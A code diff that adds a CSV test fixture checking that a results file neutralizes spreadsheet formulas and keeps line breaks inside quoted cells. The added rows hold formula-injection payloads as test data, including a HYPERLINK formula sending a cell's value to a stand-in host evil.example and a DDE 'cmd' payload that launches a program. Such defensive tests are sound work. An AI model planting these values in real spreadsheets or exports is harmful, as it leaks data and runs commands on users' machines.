@@ -140,6 +140,25 @@ write(
 );
 write('no-contact-column.csv', lf(['Name,Email consent,Kontakt', 'Ann,yes,ann@example.com']));
 
+// Cells a spreadsheet would run as a formula (= + - @, a leading tab or carriage return), and
+// values that only look like one (plain signed numbers). The results file must neutralize the
+// first kind with a leading apostrophe, keep their text, and read them back unchanged. Last, a
+// line break on its own (LF, as Google Sheets and Numbers write it) inside a quoted cell: it must
+// stay inside its cell in the results file, or Excel splits the row there.
+write(
+  'formula-cells.csv',
+  crlf([
+    'Employee ID,Name,Email,Phone,Notes',
+    'F-1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",formula1@example.com,+1 201 555 0160,-2+3',
+    'F-2,@SUM(A1:A9),formula2@example.com,+12015550161,+15551234567',
+    'F-3,Plain Numbers,formula3@example.com,,-3',
+    `F-4,"\t=1+2",formula4@example.com,,"=cmd|' /C calc'!A0"`,
+    'F-5,Plus Mail,+frank@example.com,,"\r=2+2"',
+    'F-6,Formula Mail,=bad@example.com,,',
+    'F-7,Two Lines,formula7@example.com,,"line one\nline two"',
+  ]),
+);
+
 // A results file of an earlier run, fed back in.
 write(
   'results-roundtrip.csv',
